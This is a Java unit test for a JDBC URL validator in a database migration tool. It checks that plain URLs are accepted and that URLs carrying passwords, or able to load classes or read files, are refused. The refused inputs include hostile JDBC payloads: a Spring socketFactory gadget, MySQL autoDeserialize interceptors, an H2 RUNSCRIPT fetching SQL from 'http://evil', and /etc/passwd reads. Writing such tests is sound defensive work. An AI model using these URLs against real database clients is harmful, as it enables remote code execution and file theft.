package io.github.bigdatamigrator.source.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.bigdatamigrator.error.MigratorException;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {
    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://db.example.com/shop, POSTGRESQL, -",
        "jdbc:postgresql:shop, POSTGRESQL, -",
        "jdbc:postgresql://[::1]:5433/shop?user=ann&sslmode=verify-full, POSTGRESQL, ann",
        "'jdbc:postgresql://one:5432,two/shop?targetServerType=secondary', POSTGRESQL, -",
        "jdbc:mariadb://127.0.0.1:3306/shop?sslMode=disable, MARIADB, -",
        "jdbc:mysql://db/shop, MYSQL, -",
        "jdbc:sqlserver://db\\SALES:1433;databaseName=shop;encrypt=true;user=ann, SQLSERVER, ann",
        "jdbc:oracle:thin:@//db:1521/service, ORACLE, -",
        "jdbc:oracle:thin:@db:1521:sid, ORACLE, -",
        "jdbc:h2:tcp://localhost/~/shop, H2, -",
        "jdbc:h2:mem:shop, H2, -",
        "jdbc:trino://db:8080/catalog/schema, OTHER, -",
        "JDBC:POSTGRESQL://db/shop, POSTGRESQL, -"
    })
    void plainAddressesAreAllowed(String text, DatabaseSystem system, String user) {
        JdbcUrl url = JdbcUrl.of(text);
        assertThat(url.system()).isEqualTo(system);
        assertThat(url.text()).isEqualTo(text);
        assertThat(url.user()).isEqualTo(user.equals("-") ? null : user);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/shop?password=planted",
                "jdbc:postgresql://db/shop?user=ann&PassWord=planted",
                "jdbc:postgresql://ann:planted@db/shop",
                "jdbc:postgresql://db/shop?sslpassword=planted",
                "jdbc:postgresql://db/shop?pass%77ord=planted",
                "jdbc:mysql://ann:planted@db/shop",
                "jdbc:mysql://(host=db,password=planted)/shop",
                "jdbc:mysql://address=(host=db)(password=planted)/shop",
                "jdbc:mariadb://db/shop?user=ann&pwd=planted",
                "jdbc:sqlserver://db;databaseName=shop;password=planted",
                "jdbc:sqlserver://db;accessToken=planted",
                "jdbc:oracle:thin:ann/planted@//db/service",
                "jdbc:h2:mem:shop;PASSWORD=planted",
                "jdbc:other://db/shop?apiKey=planted",
                "jdbc:other:planted",
                "jdbc:postgresql://db/shop?options=-c%20planted",
                "jdbc:postgresql://db/shop?sslmode=planted\"'"
            })
    void aPasswordIsRefusedAndNotRepeated(String text) {
        assertThatThrownBy(() -> JdbcUrl.of(text))
                .isInstanceOf(MigratorException.class)
                .hasMessageNotContaining("planted");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/shop?socketFactory=org.springframework.context.ClassPathXmlApplicationContext",
                "jdbc:postgresql://db/shop?sslfactory=a.b.C&sslfactoryarg=x",
                "jdbc:postgresql://db/shop?authenticationPluginClassName=a.b.C",
                "jdbc:postgresql://db/shop?loggerFile=/tmp/x&loggerLevel=TRACE",
                "jdbc:postgresql://db/shop?sslrootcert=/etc/passwd",
                "jdbc:postgresql://db/shop?service=x",
                "jdbc:postgresql://db/shop?jaasApplicationName=x",
                "jdbc:mysql://db/shop?allowLoadLocalInfile=true",
                "jdbc:mysql://db/shop?allowUrlInLocalInfile=true",
                "jdbc:mysql://db/shop?autoDeserialize=true&queryInterceptors=a.b.C",
                "jdbc:mysql://db/shop?propertiesTransform=a.b.C",
                "jdbc:mysql:loadbalance://db/shop",
                "jdbc:mysql:fabric://db/shop",
                "jdbc:mariadb://db/shop?allowLocalInfile=true",
                "jdbc:mariadb://db/shop?credentialType=x",
                "jdbc:mariadb://db/shop?serverSslCert=/etc/passwd",
                "jdbc:mariadb://db/shop?localSocket=/tmp/x",
                "jdbc:mariadb://db/shop?sessionVariables=sql_log_bin=0",
                "jdbc:sqlserver://db;socketFactoryClass=a.b.C",
                "jdbc:sqlserver://db;trustStore=/etc/passwd",
                "jdbc:sqlserver://db;databaseName={a;trustManagerClass=b}",
                "jdbc:oracle:thin:@ldap://evil/x",
                "jdbc:oracle:thin:@name?TNS_ADMIN=/tmp",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=db)))",
                "jdbc:oracle:oci:@db",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:file:/etc/passwd",
                "jdbc:h2:zip:/tmp/x.zip!/x",
                "jdbc:h2:tcp://db/x;TRACE_LEVEL_FILE=3",
                "jdbc:sqlite:/etc/passwd",
                "jdbc:duckdb:/tmp/x.db",
                "jdbc:derby:memory:x;create=true",
                "jdbc:hsqldb:file:/tmp/x",
                "jdbc:other://db/shop?any=thing",
                "jdbc:postgresql://db/shop\n?x",
                "jdbc:",
                "postgresql://db/shop",
                "http://db/shop"
            })
    void whatMayLoadClassesOrTouchFilesIsRefused(String text) {
        assertThatThrownBy(() -> JdbcUrl.of(text)).isInstanceOf(MigratorException.class);
    }
}
